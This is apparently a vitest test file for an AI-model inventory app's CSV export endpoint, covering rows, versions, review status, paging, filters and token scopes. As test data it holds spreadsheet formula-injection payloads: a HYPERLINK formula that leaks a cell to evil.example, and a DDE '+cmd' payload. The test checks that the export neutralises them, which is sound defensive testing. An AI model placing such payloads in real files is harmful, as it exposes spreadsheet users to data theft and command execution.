import { mapInOrder } from '@/lib/map-in-order';
import { eq } from 'drizzle-orm';
import { beforeAll, describe, expect, it } from 'vitest';
import * as route from '@/app/api/v1/exports/inventory.csv/route';
import { unguardedWriter, withTransaction } from '@/db';
import { modelVersions } from '@/db/schema';
import { systemActor, type Actor } from '@/lib/auth/actor';
import { createApiToken } from '@/lib/auth/create-api-token';
import { createModel } from '@/lib/inventory/create-model';
import { createModelVersion } from '@/lib/inventory/create-model-version';
import { listSystems } from '@/lib/inventory/queries';
import { retireSystem } from '@/lib/inventory/retire-system';
import { reportDeployment } from '@/lib/lineage/report-deployment';
import { addReviewTrigger } from '@/lib/reviews/add-review-trigger';
import { ZListSystemsQuery } from '@/lib/inventory/schemas';
import { makeActor, makeSystem } from '@/lib/testing';
import { INVENTORY_COLUMNS } from './export-inventory';
import { downloadCsv, getWithToken } from './test-request';

const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")';
let ds: Actor;
let token: string;
let formulaSystemId: string;
let liveId: string;

beforeAll(async () => {
  ds = await makeActor(['data_scientist']);
  token = (await createApiToken(systemActor('test'), ds.userId, { name: 'ci', scopes: ['read'] })).secret;
  const system = await makeSystem(ds, { name: HYPERLINK, purpose: '+cmd|" /C calc"!A0', riskTier: 'high', businessOwner: '@Retail, Credit' });
  formulaSystemId = system.id;
  const scorer = await createModel(ds, { systemId: system.id, name: 'scorer' });
  await createModelVersion(ds, { modelId: scorer.id, version: '1.0', artifactSha256: 'a'.repeat(64), format: 'onnx' });
  const live = await createModelVersion(ds, { modelId: scorer.id, version: '2.0', artifactSha256: 'b'.repeat(64), format: 'onnx' });
  // Promotion has its own tests; here a version only needs to be in production.
  await unguardedWriter().update(modelVersions).set({ stage: 'production', stageChangedAt: '2026-01-02T03:04:05.000Z' }).where(eq(modelVersions.id, live.id));
  liveId = live.id;
  await createModel(ds, { systemId: system.id, name: 'explainer' });
  await makeSystem(ds, { name: 'Bare system', riskTier: 'minimal' });
  for (let i = 0; i < 510; i++) await makeSystem(ds, { name: 'Same name', riskTier: 'limited' });
  for (const [name, riskTier] of [['gamma shown', 'high'], ['Alpha shown', 'high'], ['beta shown', 'high'], ['Delta shown', 'minimal']] as const) {
    const shown = await makeSystem(ds, { name, riskTier, purpose: 'Listed with filters.' });
    for (const model of ['second', 'first']) await createModel(ds, { systemId: shown.id, name: model });
  }
});

/** The systems of a CSV in file order, each once (a system has one row per model, side by side). */
const systemIdsOf = (records: Record<string, string>[]) => records.map((r) => r['System ID']).filter((id, i, all) => id !== all[i - 1]);

describe('GET /api/v1/exports/inventory.csv', () => {
  it('is a dated CSV attachment with one row per model, and a row for a system without models', async () => {
    const { response, header, records } = await downloadCsv(route.GET, '/api/v1/exports/inventory.csv', token);
    expect(response.headers.get('content-disposition')).toBe(`attachment; filename="provenant-inventory-${new Date().toISOString().slice(0, 10)}.csv"`);
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(header).toEqual(INVENTORY_COLUMNS.map((c) => c.header));
    expect(records.filter((r) => r['System ID'] === formulaSystemId).map((r) => r.Model)).toEqual(['explainer', 'scorer']);
    expect(records.find((r) => r.System === 'Bare system')).toMatchObject({ Model: '', 'Version count': '0', 'Risk tier': 'minimal', 'Technical owner email': ds.email });
  });

  it('names the production version and its digest', async () => {
    const { records } = await downloadCsv(route.GET, '/api/v1/exports/inventory.csv', token);
    expect(records.find((r) => r.Model === 'scorer')).toMatchObject({
      'Version count': '2',
      Versions: '1.0 (development); 2.0 (production)',
      'Production version': '2.0',
      'Production artifact SHA-256': 'b'.repeat(64),
      'In production since (UTC)': '2026-01-02T03:04:05.000Z',
      'Staging version': '',
    });
  });

  it('says whether production runs the approved bytes, and each system’s review status as the reviews page does', async () => {
    const scorer = (await downloadCsv(route.GET, '/api/v1/exports/inventory.csv', token)).records.find((r) => r.Model === 'scorer')!;
    expect(scorer['Production services report']).toBe('no service has reported');
    await reportDeployment(ds, { environment: 'production', endpoint: 'https://scorer.internal/a', reportedSha256: 'b'.repeat(64), modelVersionId: liveId });
    await reportDeployment(ds, { environment: 'production', endpoint: 'https://scorer.internal/b', reportedSha256: 'c'.repeat(64), modelVersionId: liveId });
    const systemId = scorer['System ID']!;
    await withTransaction(async (tx) => await addReviewTrigger(tx, systemActor('test'), { systemId, reason: 'critical_finding', detail: 'A critical finding.' }));
    const retiredSystem = await makeSystem(ds, { name: 'Retired with a date', riskTier: 'minimal', nextReviewDate: '2028-01-01' });
    await retireSystem(ds, retiredSystem.id, { reason: 'Replaced.' });
    const { records } = await downloadCsv(route.GET, '/api/v1/exports/inventory.csv', token);
    expect(records.find((r) => r.Model === 'scorer')).toMatchObject({
      'Production services report': `matches at https://scorer.internal/a; DIFFERS at https://scorer.internal/b: runs ${'c'.repeat(64)}`,
      'Review status': 'due now',
    });
    expect(records.find((r) => r.Model === 'explainer')!['Production services report']).toBe('');
    expect(records.find((r) => r.System === 'Retired with a date')).toMatchObject({ 'Next review date': '', 'Review status': 'none: retired' });
    expect(records.find((r) => r.System === 'Bare system')!['Review status']).toBe('not scheduled');
  });

  it('neutralises formulas in names, purposes and owners', async () => {
    const { records } = await downloadCsv(route.GET, '/api/v1/exports/inventory.csv', token);
    const row = records.find((r) => r['System ID'] === formulaSystemId)!;
    expect(row.System).toBe(`'${HYPERLINK}`);
    expect(row.Purpose).toBe(`'+cmd|" /C calc"!A0`);
    expect(row['Business owner']).toBe("'@Retail, Credit");
  });

  it('pages through more systems than a batch holds, even when they share a name', async () => {
    const { records } = await downloadCsv(route.GET, '/api/v1/exports/inventory.csv', token);
    const same = records.filter((r) => r.System === 'Same name').map((r) => r['System ID']);
    expect(same).toHaveLength(510);
    expect(new Set(same).size).toBe(510);
    // As before, and the retired system the test above added.
    expect(records).toHaveLength(513 + 8 + 1);
  });

  it('holds exactly the systems the list shows for the same filters and sort, in its order', async () => {
    const views: Record<string, string>[] = [{ q: 'Listed with filters', riskTier: 'high' }, { q: 'Listed with filters', sort: 'name', dir: 'desc' }, { riskTier: 'limited', sort: 'updatedAt', dir: 'desc' }];
    for (const params of views) {
      const { records } = await downloadCsv(route.GET, `/api/v1/exports/inventory.csv?${new URLSearchParams(params)}`, token);
      const listed = await listSystems(ds, ZListSystemsQuery.parse({ ...params, pageSize: 200 }));
      const pages = [listed.items, ...(await mapInOrder(Array.from({ length: Math.ceil(listed.total / 200) - 1 }), async (_, i) => (await listSystems(ds, ZListSystemsQuery.parse({ ...params, pageSize: 200, page: i + 2 }))).items))];
      expect(systemIdsOf(records)).toEqual(pages.flat().map((s) => s.id));
    }
    const { records } = await downloadCsv(route.GET, '/api/v1/exports/inventory.csv?q=Listed+with+filters&riskTier=high', token);
    expect(records.map((r) => `${r.System}/${r.Model}`)).toEqual(['Alpha shown/first', 'Alpha shown/second', 'beta shown/first', 'beta shown/second', 'gamma shown/first', 'gamma shown/second']);
  });

  it('refuses a filter the list does not know, with field-level issues', async () => {
    const response = await getWithToken(route.GET, '/api/v1/exports/inventory.csv?riskTier=extreme&sort=colour', token);
    expect(response.status).toBe(400);
    expect((await response.json()).error.issues.map((i: { path: string }) => i.path).sort()).toEqual(['riskTier', 'sort']);
  });

  it('refuses a token without the read scope', async () => {
    const writer = (await createApiToken(systemActor('test'), ds.userId, { name: 'writer', scopes: ['register'] })).secret;
    const response = await getWithToken(route.GET, '/api/v1/exports/inventory.csv', writer);
    expect(response.status).toBe(403);
    expect((await response.json()).error.message).toMatch(/scope for inventory.read/);
  });
});
